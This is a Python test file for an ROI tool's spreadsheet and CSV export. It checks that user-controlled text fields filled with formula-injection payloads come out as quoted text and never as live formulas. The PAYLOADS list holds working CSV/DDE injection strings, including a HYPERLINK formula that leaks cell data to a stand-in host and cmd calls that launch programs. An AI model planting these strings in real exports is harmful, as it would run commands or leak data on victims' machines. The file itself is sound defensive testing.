"""A workbook exported from data full of formula-injection strings carries no formula from user text.

Every text field a user or a client's export controls is filled with payloads that Excel or
LibreOffice would run if they became formulas (OWASP "CSV injection", DDE).  The workbook is
then re-opened with openpyxl: the only formulas allowed are the ones the export itself wrote
(``roi.export.layout.Formula`` cells of the same layout), none of them containing a payload,
and every user string that looks like a formula is a string cell with Excel's quote prefix.
"""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from openpyxl import load_workbook

from roi.engine import compute
from roi.export import build_workbook, metrics_csv
from roi.export.layout import Formula
from roi.export.workbook import build_layout
from roi.ingest.tables import SCHEMAS
from roi.models import scenario_from_dict
from roi.rollout_models import RolloutPlan
from tests.conftest import SCENARIOS

PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    '=IMPORTXML("http://example.invalid","//a")',
)
MARKERS = ("HYPERLINK", "example.invalid", "cmd|", "SUM(1)", "IMPORTXML", "1+1", "-1+1")
"""Substrings of the payloads no formula of ours contains."""


def _payload(index: int, limit: int = 500) -> str:
    return PAYLOADS[index % len(PAYLOADS)][:limit]


@pytest.fixture(scope="module")
def hostile():
    """(scenario, results, metrics, tables) with a payload in every free-text field."""
    data = json.loads((SCENARIOS / "worked_example.json").read_text())
    data["name"] = PAYLOADS[0][:200]
    data["notes"] = "\n".join(PAYLOADS)
    data["costs"]["tools"] = [
        {"name": payload, "price_per_seat_month": 19 + i, "seat_coverage": 0.5}
        for i, payload in enumerate(PAYLOADS[:3])
    ]
    data["measurement"] = {
        "adoption_date": "2025-04-28",
        "ramp_weeks": 2,
        "sources": list(PAYLOADS),
        "column_mappings": {PAYLOADS[1]: {"merged_at": PAYLOADS[2]}},
    }
    plan = RolloutPlan.model_validate(
        {
            "waves": [
                {"name": "=1+1 pilot", "start_week": 0, "seat_share": 0.1, "teams": PAYLOADS[0]},
                {"name": "@SUM(1) wave", "start_week": 8, "seat_share": 1.0, "teams": PAYLOADS[1]},
            ],
            "checklist": [
                {
                    "item_id": "=1+1",
                    "title": PAYLOADS[0],
                    "owner_role": "-1+1",
                    "notes": PAYLOADS[6],
                    "status": "doing",
                }
            ],
            "expectations": {"guardrails": list(PAYLOADS)},
        }
    )
    data["rollout"] = plan.model_dump(mode="json")
    scenario = scenario_from_dict(data, source="hostile.json")
    results = compute(scenario)
    metrics = {
        "adoption_date": "2025-04-28",
        "ramp_weeks": 2,
        "sources": [
            {
                "file": payload,
                "format": "github-pulls",
                "rows": 3,
                "used_rows": 2,
                "skipped": {PAYLOADS[3]: 1},
            }
            for payload in PAYLOADS
        ],
        "baseline": {"prs_merged": 10},
        "post": {"prs_merged": 12},
        "changes": {},
        "cohorts": None,
    }
    tables = {}
    for table, schema in SCHEMAS.items():
        rows = {}
        for i, (column, kind) in enumerate(schema.items()):
            if kind == "object":
                rows[column] = [_payload(i), _payload(i + 1)]
            elif kind.startswith("datetime"):
                rows[column] = pd.to_datetime(["2025-01-01", "2025-02-01"], utc=True)
            elif kind == "bool":
                rows[column] = [False, True]
            else:
                rows[column] = [1, 2]
        tables[table] = pd.DataFrame(rows)
    return scenario, results, metrics, tables


@pytest.fixture(scope="module")
def workbook(hostile):
    scenario, results, metrics, tables = hostile
    return load_workbook(io.BytesIO(build_workbook(scenario, results, metrics=metrics, tables=tables)))


def _our_formulas(hostile) -> set[str]:
    scenario, results, metrics, tables = hostile
    layout = build_layout(scenario, results, metrics=metrics, tables=tables)
    return {
        "=" + cell.value.text
        for sheet in layout.sheets
        for row in sheet.rows
        for cell in row
        if cell is not None and isinstance(cell.value, Formula)
    }


def test_every_payload_reached_the_workbook_as_text(workbook):
    texts = {
        c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"
    }
    joined = "\n".join(str(t) for t in texts)
    for payload in PAYLOADS:
        assert payload.strip() in joined, (
            f"payload {payload!r} was not exported: the test would prove nothing"
        )


def test_no_cell_holds_a_formula_from_user_text(workbook, hostile):
    ours = _our_formulas(hostile)
    assert ours, "the workbook is a live model: it must have formulas of its own"
    for formula in ours:
        assert not any(marker in formula for marker in MARKERS), formula
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert cell.value in ours, f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                    assert not any(marker in cell.value for marker in MARKERS)
                elif isinstance(cell.value, str) and cell.value.lstrip("\t\r").startswith(
                    ("=", "+", "-", "@")
                ):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate}"
                    assert cell.quotePrefix, (
                        f"{ws.title}!{cell.coordinate} {cell.value!r} lacks the quote prefix"
                    )
                assert cell.hyperlink is None, f"{ws.title}!{cell.coordinate} carries a hyperlink"


def test_defined_names_validations_and_titles_carry_no_payload(workbook):
    for name, defined in workbook.defined_names.items():
        assert not any(marker in str(defined.attr_text) for marker in MARKERS), name
    for ws in workbook.worksheets:
        assert not ws.title.startswith(("=", "+", "-", "@"))
        for validation in ws.data_validations.dataValidation:
            assert not any(marker in str(validation.formula1) for marker in MARKERS)


def test_metrics_csv_neutralises_payloads(hostile):
    scenario, results, metrics, tables = hostile
    hostile_metrics = {**metrics, "baseline": {**metrics["baseline"], PAYLOADS[0]: 1.0, PAYLOADS[3]: 2.0}}
    text = metrics_csv(hostile_metrics).decode("utf-8-sig")
    assert "HYPERLINK" in text
    for row in csv.reader(io.StringIO(text)):
        for field in row:
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(field), field


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
